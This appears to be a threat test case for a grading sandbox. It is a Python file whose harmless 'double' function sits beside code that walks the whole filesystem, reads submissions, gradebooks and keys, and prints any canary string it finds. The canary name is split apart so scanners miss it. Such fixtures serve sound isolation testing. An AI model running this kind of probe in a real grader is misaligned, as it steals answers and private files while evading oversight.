"""Reads every file it can reach outside of the libraries: sources, submissions, gradebooks, keys.

loses: double-check::*
layer: namespaces
source: threats.md
"""
# %% double
def seen(text):
    """Print what gives a secret away; its name is put together so that this cell is not found."""
    mark = "CAN" + "ARY-"
    if mark in text:
        print("ACHIEVED: found", text[text.index(mark) :][:60])


import os

for folder, folders, names in os.walk("/"):
    if folder == "/":
        folders[:] = [name for name in folders if name not in ("usr", "lib", "lib64", "bin", "sbin", "env", "sys")]
    if folder.count("/") > 6:
        folders[:] = []
    for name in names:
        try:
            path = os.path.join(folder, name)
            seen(path + open(path, errors="replace").read(20_000) if os.path.isfile(path) else path)
        except OSError:
            pass


def double(x):
    return x
